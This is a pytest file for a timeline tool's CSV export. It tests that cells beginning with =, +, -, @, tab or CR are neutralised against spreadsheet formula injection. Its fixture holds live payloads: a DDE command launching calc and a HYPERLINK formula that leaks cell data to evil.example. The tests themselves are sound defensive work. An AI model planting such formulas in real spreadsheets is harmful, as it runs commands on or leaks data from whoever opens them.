"""csv is for spreadsheets: no cell is taken as a formula, unless --csv-raw asks for cells
as stored (for programs). OWASP's rule: a cell beginning with =, +, -, @, TAB or CR
gets a leading '."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from company_timeline.cli.main import cli
from company_timeline.projections.exports.cells import spreadsheet_cell

HOSTILE = """\
sources:
  - id: wire
    title: "=cmd|' /C calc'!A0"
    published: 2024-03-01T09:00:00+00:00
entities:
  - id: acme
    name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    kind: company
events:
  - id: acme-product
    type: product_launched
    entity: acme
    product: "+SUM(1,2)"
    valid: 2024-02-26
    source: wire
    quote: "@SUM(A1:A9)"
    note: "-2+3"
"""


@pytest.fixture
def store(tmp_path):
    (tmp_path / "hostile.yaml").write_text(HOSTILE, encoding="utf-8")
    location = str(tmp_path / "store.sqlite")
    result = CliRunner().invoke(
        cli, ["--store", location, "ingest", str(tmp_path / "hostile.yaml")]
    )
    assert result.exit_code == 0, result.output
    return location


def cells(store: str, table: str, *args: str) -> list[str]:
    result = CliRunner().invoke(
        cli, ["--store", store, "export", "--format", "csv", "--table", table, *args]
    )
    assert result.exit_code == 0, result.output
    return [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]


@pytest.mark.parametrize("table", ["events", "state"])
def test_no_csv_cell_begins_as_a_formula(store, table):
    found = cells(store, table)
    assert [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    if table == "events":
        assert {c for c in found if c.startswith("'")} >= {
            "'@SUM(A1:A9)",
            "'+SUM(1,2) launched",
            "'-2+3",
        }


def test_csv_raw_gives_the_cells_as_stored(store):
    found = cells(store, "events", "--csv-raw")
    for formula in ("+SUM(1,2) launched", "@SUM(A1:A9)", "-2+3"):
        assert formula in found
    assert not any(c.startswith("'") for c in found)


def test_the_head_beside_the_tables_says_how_cells_were_written(store, tmp_path):
    for args, said in (([], "formula-safe"), (["--csv-raw"], "raw")):
        folder = tmp_path / said
        result = CliRunner().invoke(
            cli, ["--store", store, "export", "--format", "csv", "-o", str(folder), *args]
        )
        assert result.exit_code == 0, result.output
        assert json.loads((folder / "export.json").read_text())["cells"] == said


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("1-2", "1-2"),
        ("Acme", "Acme"),
        ("", ""),
        ("a quote\nand another", "a quote\nand another"),
        ("bell\x07", "bell\\x07"),
    ],
)
def test_a_cell_is_made_safe_for_spreadsheets_and_terminals(value, safe):
    assert spreadsheet_cell(value) == safe


def test_raw_cells_keep_formulas_but_never_a_control_character():
    assert spreadsheet_cell("=1+1", raw=True) == "=1+1"
    assert spreadsheet_cell("\x1b[2J", raw=True) == "\\x1b[2J"
